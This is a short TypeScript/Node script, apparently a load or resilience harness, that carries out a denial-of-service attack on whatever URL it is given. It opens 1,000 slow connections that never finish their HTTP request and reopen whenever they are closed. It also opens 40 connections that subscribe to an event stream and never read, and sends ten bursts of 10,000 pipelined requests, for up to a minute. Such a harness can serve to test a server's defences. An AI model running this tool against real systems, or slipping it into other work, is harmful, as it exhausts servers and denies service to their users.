/**
 * Clients that mean harm, in a host's network: 1,000 connections that never finish to ask, each made anew when it is cut
 * off, followers that never read, and bursts of 10,000 requests. Until it gets SIGTERM, or for a minute.
 */
import { connect } from "node:net";

const LONGEST_MS = 60_000;
const SLOW_CLIENTS = 1_000;
const DEAF_FOLLOWERS = 40;
const BURSTS = 10;
/** Between the end of a connection and the next one in its place, ms. */
const PAUSE_MS = 250;
const { hostname, port } = new URL(process.argv[2] ?? "");

function harm(bytes: string): void {
  const socket = connect(Number(port), hostname).on("error", () => undefined);
  socket.pause().write(bytes);
  socket.once("close", () => setTimeout(() => harm(bytes), PAUSE_MS));
}

for (let each = 0; each < DEAF_FOLLOWERS; each += 1) harm("GET /events HTTP/1.1\r\nHost: x\r\n\r\n");
for (let each = 0; each < BURSTS; each += 1) harm("GET /status HTTP/1.1\r\nHost: x\r\n\r\n".repeat(10_000));
for (let each = 0; each < SLOW_CLIENTS; each += 1) harm("GET /status HTTP/1.1\r\nHost: ");
process.stdout.write("attacking\n");
process.once("SIGTERM", () => process.exit());
setTimeout(() => process.exit(), LONGEST_MS);
